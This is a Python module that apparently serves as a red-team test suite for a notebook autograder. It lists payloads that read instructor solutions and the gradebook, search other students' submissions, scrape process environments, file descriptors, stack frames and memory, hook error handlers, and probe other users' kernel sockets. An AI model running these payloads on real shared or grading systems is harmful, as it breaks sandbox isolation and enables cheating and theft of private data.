"""What tries to learn hidden tests, answers of others, and what the instructor keeps."""

from attacks.classes import Attack

_LOOK = """
def heard(number):
    return socket.socket(fileno=os.dup(number)).recv(10**6, 0x42).decode(errors='replace')
def look(what):
    text = what if isinstance(what, str) else repr(what)
    for word in ('quag' + 'ga_', 'honest_' + 'answer'):
        if word in text:
            print(text[max(0, text.index(word) - 20):][:200])
"""

ATTACKS = {
    "instructors_files": Attack("Reads the instructor's files by name.", """
for name in ('secret.txt', 'solutions/week1/powers.ipynb', 'pyproject.toml', 'autograder/work/gradebook.db',
             'work/gradebook.db', 'lessons/week1/powers.ipynb'):
    try_all(lambda: print(open(f'COURSE/{name}', errors='replace').read()))
for folder in ('COURSE', 'COURSE/solutions', 'COURSE/..'):
    try_all(lambda: (print(os.listdir(folder)), reached(folder)))"""),
    "files_of_others": Attack("Searches every folder for other submissions.", _LOOK + """
for folder, folders, files in os.walk('/', onerror=None):
    if folder.startswith(('/proc', '/sys', '/usr')) or folder.count('/') > 6:
        folders.clear()
        continue
    for name in files:
        if name.endswith(('.ipynb', '.txt', '.db', '.part')):
            try_all(lambda: look(open(os.path.join(folder, name), errors='replace').read()))"""),
    "environments": Attack("Reads the environment of every process.", _LOOK + """
look(dict(os.environ))
for pid in os.listdir('/proc'):
    for name in ('environ', 'cmdline'):
        try_all(lambda: look(open(f'/proc/{pid}/{name}', errors='replace').read()))
place = ctypes.c_void_p.in_dll(libc, 'environ').value
for text in ctypes.cast(place, ctypes.POINTER(ctypes.c_char_p))[:5]:
    look(repr(text))"""),
    "descriptors": Attack("Reads from every descriptor it was given.", _LOOK + """
for number in range(3, 300):
    try_all(lambda: look(os.pread(number, 10**6, 0).decode(errors='replace')))
    try_all(lambda: look(heard(number)))"""),
    "descriptors_in_a_test": Attack("Reads from every descriptor while it is asked.", _LOOK + """
def square(x):
    for number in range(3, 300):
        try_all(lambda: look(heard(number)))
    return x * x"""),
    "stack_in_a_test": Attack("Looks through the frames, and what they hold, while it is asked.", _LOOK + """
def square(x):
    frame = sys._getframe()
    while frame is not None:
        look(list(frame.f_locals.items()))
        look(frame.f_code.co_consts)
        frame = frame.f_back
    return x * x"""),
    "objects_in_a_test": Attack("Looks at every object there is while it is asked.", _LOOK + """
import gc
def square(x):
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 1000:
            for value in (thing.values() if isinstance(thing, dict) else thing):
                if type(value) in (str, bytes):
                    look(repr(value))
    return x * x"""),
    "sources": Attack("Asks inspect, linecache and IPython's history for sources.", _LOOK + """
import inspect, linecache
def square(x):
    for frame in inspect.stack():
        look(frame.code_context)
    look([entry[2] for entry in linecache.cache.values() if len(entry) > 2])
    look(list(get_ipython().history_manager.input_hist_raw))
    look(list(get_ipython().user_ns.get('In', [])))
    return x * x"""),
    "modules": Attack("Looks through every module for the grader's.", _LOOK + """
for name, module in list(sys.modules.items()):
    if 'autograder' in name or 'examin' in name:
        for key, value in vars(module).items():
            if type(value) in (str, bytes, dict, list, tuple):
                look((key, value))"""),
    "errors_of_the_test": Attack("Raises an error that prints what called it.", _LOOK + """
class Telling(Exception):
    def __str__(self):
        frame = sys._getframe()
        while frame is not None:
            look(list(frame.f_locals.items()))
            frame = frame.f_back
        return 'told'
def square(x):
    raise Telling()""", deserves=()),
    "exceptions_hook": Attack("Hooks into every place that sees errors, audits and imports.", _LOOK + """
sys.excepthook = lambda *given: look(given)
sys.unraisablehook = look
sys.addaudithook(lambda event, given: look(given) if event in ('compile', 'exec', 'open', 'import') else None)
get_ipython().set_custom_exc((Exception,), lambda *given, **named: look(given))"""),
    "neighbours_kernels": Attack("Talks to the kernels of others by their sockets.", """
places = ('/tmp/kernel-*/k*', '/proc/*/root/run/kernel/*', '/run/kernel/*', '/tmp/class-*/tmp/kernel-*/k*')
for path in [path for place in places for path in glob.glob(place)]:
    def talk():
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(1)
        link.connect(path)  # its own is no harm
        if not path.startswith(('/run/kernel', '/proc/', os.path.expanduser('~'))):
            reached(path)
    try_all(talk)"""),
    "arguments_printed": Attack("Prints what a hidden test calls it with.", """
def square(x):
    print('argument', x)
    return x * x""", learns="-5.0"),
    "arguments_remembered": Attack("Keeps what a hidden test calls it with, and prints it in the next cell.",
        "calls = []\ndef square(x):\n    calls.append(float(x))\n    return x * x",
        cells=(("cube", "# exercise: cube\nprint(calls)\ndef cube(x):\n    return None"),),
        learns="-5.0"),
}
